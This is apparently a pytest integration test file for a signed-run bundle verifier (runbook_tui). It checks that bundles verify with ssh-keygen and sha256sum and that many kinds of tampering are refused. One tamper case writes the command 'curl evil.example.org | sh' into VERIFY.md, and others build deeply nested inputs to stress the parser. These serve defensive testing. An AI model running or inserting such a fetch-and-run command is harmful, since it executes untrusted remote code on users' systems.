"""A signed run as a bundle: verified with rbt, and with nothing but ssh-keygen and sha256sum; every change is refused."""

import io
import json
import os
import re
import subprocess
import sys
import tarfile
from collections.abc import Callable
from hashlib import sha256
from pathlib import Path

import msgspec
import pytest

from runbook_tui import __version__
from runbook_tui.bundling import bundled, unbundled
from runbook_tui.report import bundle
from runbook_tui.report.account import Account, KeptText
from runbook_tui.report.bundle import BadBundle
from runbook_tui.run import events as e
from runbook_tui.signing.evidence import Head
from runbook_tui.signing.findings import Findings, Standing
from runbook_tui.signing.verification import verify
from tests.integration.signing.bed import DOCUMENT, OUTPUT, Run

Files = dict[str, bytes]


@pytest.fixture(scope="module")
def signed(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    from tests.integration.signing.bed import Team

    run = Run(Team(tmp_path_factory.mktemp("keys")))
    run.sign("ana", "Engineering Lead")
    run.sign("ben", "QA Lead")
    run.add(e.RunFinished(outcome=e.Outcome.COMPLETED))
    return made(run)


def made(run: Run) -> bytes:
    evidence = run.evidence()
    last = Head(seq=len(run.rows), hash=run.rows[-1].hash, source="the store")
    outputs = {job: KeptText(pieces=((0, OUTPUT),), total=len(OUTPUT)) for job in run.state.jobs}
    account = Account(
        runbook=run.runbook, state=run.state, records=tuple(run.records), document=DOCUMENT, outputs=outputs, tool="rbt",
        at=run.now,
    )  # fmt: skip
    return bundled(msgspec.structs.replace(evidence, last=last), account)


def files(data: bytes) -> Files:
    with tarfile.open(fileobj=io.BytesIO(data)) as tar:
        return {member.name: tar.extractfile(member).read() for member in tar}


def judged(data: bytes) -> Findings:
    evidence, broken = unbundled(data)
    found = verify(evidence)
    return msgspec.structs.replace(found, findings=(*broken, *found.findings))


def packed(content: Files) -> bytes:
    """By somebody who puts SHA256SUMS right again."""
    return bundle.write({name: data for name, data in content.items() if name != "SHA256SUMS"})


def test_a_signed_bundle_holds(signed: bytes) -> None:
    found = judged(signed)
    assert not found.violated
    assert [off.standing for off in found.signoffs] == [Standing.VALID] * 2


def test_it_is_verified_with_nothing_but_ssh_keygen_and_sha256sum(signed: bytes, tmp_path: Path) -> None:
    """The very lines of VERIFY.md, in a clean folder, with no rbt in reach."""
    with tarfile.open(fileobj=io.BytesIO(signed)) as tar:
        tar.extractall(tmp_path, filter="data")
    text = (tmp_path / "VERIFY.md").read_text()
    lines = re.search(r"```bash\n(.*?)```", text, re.DOTALL)[1].splitlines()
    assert len(lines) == 3
    done = [
        subprocess.run(
            ["bash", "-c", line], cwd=tmp_path, env={"PATH": "/usr/bin:/bin"}, capture_output=True, text=True, check=False
        )
        for line in lines
    ]  # fmt: skip
    assert [one.returncode for one in done] == [0, 0, 0], done
    assert done[0].stdout == ""
    assert 'Good "signoff-v1@runbook-tui" signature for ana@example.org' in done[1].stdout
    statement = json.loads((tmp_path / re.search(r"< (\S+)$", lines[1])[1]).read_bytes())
    assert done[2].stdout.strip() == statement["head"]
    outputs = {job["output"] for step in statement["steps"] for job in step["jobs"]}
    assert outputs
    assert all((tmp_path / "blobs" / name).exists() for name in outputs)
    (tmp_path / "blobs" / outputs.pop()).write_bytes(b"another output\n")
    again = subprocess.run(["bash", "-c", lines[0]], cwd=tmp_path, capture_output=True, text=True, check=False)
    assert again.returncode == 1
    assert "FAILED" in again.stdout


def test_the_same_run_gives_the_same_bytes(team) -> None:
    run = Run(team)
    run.add(e.RunFinished(outcome=e.Outcome.COMPLETED))
    assert made(run) == made(run)


def lines(content: Files) -> list[bytes]:
    return content["events.jsonl"].splitlines(keepends=True)


def output_changed(content: Files) -> None:
    name = f"blobs/{sha256(OUTPUT).hexdigest()}"
    content[name] = b"something else\n"


def output_left_out(content: Files) -> None:
    del content[f"blobs/{sha256(OUTPUT).hexdigest()}"]


def event_dropped(content: Files) -> None:
    content["events.jsonl"] = b"".join(lines(content)[:4] + lines(content)[5:])


def event_doubled(content: Files) -> None:
    content["events.jsonl"] = b"".join(lines(content)[:5] + lines(content)[4:])


def events_swapped(content: Files) -> None:
    rows = lines(content)
    rows[3], rows[4] = rows[4], rows[3]
    content["events.jsonl"] = b"".join(rows)


def event_edited(content: Files) -> None:
    content["events.jsonl"] = content["events.jsonl"].replace(b'"exit":0', b'"exit":1')


def event_edited_and_head_put_right(content: Files) -> None:
    event_edited(content)
    evidence, _ = unbundled(packed(content))
    about = json.loads(content["run.json"])
    about["head"] = evidence.events[-1].hash
    content["run.json"] = json.dumps(about).encode()


def tail_cut(content: Files) -> None:
    content["events.jsonl"] = b"".join(lines(content)[:-1])


def signature_of_another(content: Files) -> None:
    names = sorted(name for name in content if name.endswith(".json.sig"))
    first, second = (f"blobs/{sha256(content[name]).hexdigest()}" for name in names)
    content[first], content[second] = content[second], content[first]


def list_of_signers_changed(content: Files) -> None:
    name = f"blobs/{sha256(content['allowed_signers']).hexdigest()}"
    content[name] = content["allowed_signers"] = content["allowed_signers"].replace(b"ana@", b"mallory@")


def statement_beside_changed(content: Files) -> None:
    name = next(name for name in content if name.startswith("signoffs/") and name.endswith(".json"))
    content[name] = content[name].replace(b"approved for production", b"approved for anything")


def signature_beside_of_another(content: Files) -> None:
    first, second = sorted(name for name in content if name.endswith(".json.sig"))
    content[first], content[second] = content[second], content[first]


def statement_beside_left_out(content: Files) -> None:
    del content[next(name for name in content if name.endswith(".json.sig"))]


def sign_off_put_in(content: Files) -> None:
    content["signoffs/9999.json"] = content["signoffs/9999.json.sig"] = b"{}"


def signers_beside_changed(content: Files) -> None:
    content["allowed_signers"] = content["allowed_signers"].replace(b"ana@", b"mallory@")


def policy_beside_changed(content: Files) -> None:
    content["policy.yaml"] += b"override: anyone\n"


def revoked_put_in(content: Files) -> None:
    content["revoked"] = b""


def instructions_changed(content: Files) -> None:
    content["VERIFY.md"] = content["VERIFY.md"].replace(b"sha256sum --check", b"curl evil.example.org | sh; true")


def instructions_left_out(content: Files) -> None:
    del content["VERIFY.md"]


def file_put_in(content: Files) -> None:
    content["README.md"] = b"All is well.\n"


def blob_put_in(content: Files) -> None:
    content[f"blobs/{sha256(b'x').hexdigest()}"] = b"x"


CHANGES: list[Callable[[Files], None]] = [
    output_changed, output_left_out, event_dropped, event_doubled, events_swapped, event_edited,
    event_edited_and_head_put_right, tail_cut, signature_of_another, list_of_signers_changed, statement_beside_changed,
    signature_beside_of_another, statement_beside_left_out, sign_off_put_in, signers_beside_changed,
    policy_beside_changed, revoked_put_in, instructions_changed, instructions_left_out, file_put_in, blob_put_in,
]  # fmt: skip


@pytest.mark.parametrize("change", CHANGES, ids=lambda change: change.__name__)
def test_a_changed_bundle_is_refused_with_the_reason(signed: bytes, change: Callable[[Files], None]) -> None:
    content = files(signed)
    change(content)
    found = judged(packed(content))
    assert found.violated, [one.text for one in found.findings]
    assert found.exit_code == 5
    assert all(one.text for one in found.findings)


@pytest.mark.parametrize(("tool", "code"), [("0.0.1", 1), ("", 1), (__version__, 5)])
def test_instructions_of_another_version_are_told_and_not_called_forged(signed: bytes, tool: str, code: int) -> None:
    content = files(signed)
    content["run.json"] = msgspec.json.encode(json.loads(content["run.json"]) | {"tool": tool})
    content["VERIFY.md"] += b"More.\n"
    assert judged(packed(content)).exit_code == code


def test_a_bundle_from_before_its_tool_was_named_still_holds(signed: bytes) -> None:
    content = files(signed)
    about = json.loads(content["run.json"])
    del about["tool"]
    content["run.json"] = msgspec.json.encode(about)
    text = content["VERIFY.md"]
    at = text.index(b"\n\n`report.html`")
    content["VERIFY.md"] = text[:at] + text[text.index(b"\n\nWhat this cannot tell") :]
    assert judged(packed(content)).findings == ()


def test_what_is_for_reading_only_is_said_to_prove_nothing(signed: bytes) -> None:
    content = files(signed)
    content["report.html"] = b"<h1>Approved by everybody</h1>"
    found = judged(packed(content))
    assert any("report.html and report.md" in one for one in found.cannot_tell)
    assert b"nothing here proves them" in content["VERIFY.md"]


def test_every_event_dropped_doubled_or_swapped_in_turn(signed: bytes) -> None:
    content = files(signed)
    rows = lines(content)
    for at in range(len(rows)):
        for changed in (rows[:at] + rows[at + 1 :], rows[: at + 1] + rows[at:]):
            found = judged(packed({**content, "events.jsonl": b"".join(changed)}))
            assert found.violated, at
    for at in range(len(rows) - 1):
        swapped = [*rows[:at], rows[at + 1], rows[at], *rows[at + 2 :]]
        assert judged(packed({**content, "events.jsonl": b"".join(swapped)})).violated, at


def test_cut_off_it_is_refused(signed: bytes) -> None:
    for size in range(0, len(signed) - 20_000, 7001):
        try:
            _, notes = unbundled(signed[:size])
        except BadBundle:
            continue
        assert notes, size


DEEP = 40_000


def an_event_nested_deeply(content: Files) -> None:
    first, rest = content["events.jsonl"].split(b"\n", 1)
    content["events.jsonl"] = first[:-1] + b',"x":' + b"[" * DEEP + b"]" * DEEP + b"}\n" + rest


def the_policy_nested_deeply(content: Files) -> None:
    name = f"blobs/{sha256(content['policy.yaml']).hexdigest()}"
    content[name] = content["policy.yaml"] = b"people: " + b"[" * DEEP + b"]" * DEEP


def the_document_nested_deeply(content: Files) -> None:
    content[f"blobs/{sha256(DOCUMENT).hexdigest()}"] = b"> " * DEEP + b"x\n"


@pytest.mark.parametrize(
    "change",
    [an_event_nested_deeply, the_policy_nested_deeply, the_document_nested_deeply],
    ids=lambda one: one.__name__,
)
def test_what_is_nested_without_end_is_refused_and_ends_nothing(
    signed: bytes, tmp_path: Path, change: Callable[[Files], None]
) -> None:
    """Through the program, as whoever got the file from somebody would look at it."""
    content = files(signed)
    change(content)
    (tmp_path / "deep.tar").write_bytes(packed(content))
    done = subprocess.run(
        [sys.executable, "-m", "runbook_tui", "verify", str(tmp_path / "deep.tar"), "--offline"],
        capture_output=True, text=True, check=False, env={**os.environ, "RBT_STATE": str(tmp_path / "state")},
    )  # fmt: skip
    assert done.returncode == 5, done.stderr
    assert "integrity violated" in done.stdout
    assert "defect" not in done.stderr


def test_a_run_json_nested_deeply_is_no_bundle(signed: bytes) -> None:
    content = files(signed)
    content["run.json"] = content["run.json"].rstrip()[:-1] + b',"x":' + b"[" * DEEP + b"]" * DEEP + b"}"
    with pytest.raises(BadBundle, match=r"run\.json cannot be read"):
        unbundled(packed(content))
